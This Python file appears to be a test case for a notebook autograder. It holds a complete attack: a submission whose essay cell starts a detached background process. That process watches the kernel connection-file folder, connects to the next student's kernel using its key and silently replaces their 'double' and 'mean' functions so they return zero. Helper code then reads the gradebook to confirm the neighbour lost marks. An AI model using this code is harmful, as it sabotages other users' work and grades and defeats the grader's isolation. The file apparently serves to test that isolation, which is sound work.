"""Leaves an orphan which watches the folder of the kernels' connection files for the one (with the key) of the next student's kernel, connects to it and makes that student's functions wrong."""

import sqlite3

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

CODE = r'''
def _hijack():
    import ipykernel, os, subprocess, sys
    subprocess.Popen([sys.executable, "-c", """
import glob, os, sys, time
from jupyter_core.paths import jupyter_runtime_dir
from jupyter_client import BlockingKernelClient
BAD = "get_ipython().events.register('pre_run_cell', lambda *a: get_ipython().user_ns.update(double=lambda x: 0, mean=lambda x: 0))"
def places():
    return {p for d in (jupyter_runtime_dir(), sys.argv[1]) for p in glob.glob(os.path.join(d, "*.json"))}
seen, keep = places(), []
end = time.time() + 60
while time.time() < end:
    for path in places() - seen:
        try:
            c = BlockingKernelClient(connection_file=path)
            c.load_connection_file()
            c.start_channels(hb=False, stdin=False, control=False)
            c.execute(BAD, silent=True)
            keep.append(c); seen.add(path)
        except Exception:
            pass
    time.sleep(0.01)
""", os.path.dirname(ipykernel.get_connection_file())], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    import time; time.sleep(2)
_hijack()
'''


def marks(course):
    """Auto and manual marks of everybody, straight from the gradebook."""
    db = sqlite3.connect("file:%s?mode=ro" % (course / "gradebook.db"), uri=True)
    rows = db.execute("""select s.id, bc.name, g.auto_score, g.manual_score, g.needs_manual_grade from grade g
        join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id
        join student s on sa.student_id = s.id join base_cell bc on g.cell_id = bc.id""").fetchall()
    db.close()
    return rows


def neighbour_changed(course):
    right = {"test-double": 1.0, "test-mean": 2.0}
    return any(
        s == "zz-honest" and c in right and (m if m is not None else a) not in (None, right[c])
        for s, c, a, m, n in marks(course)
    )


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = CODE
    return notebook


def harmed(course):
    return neighbour_changed(course)
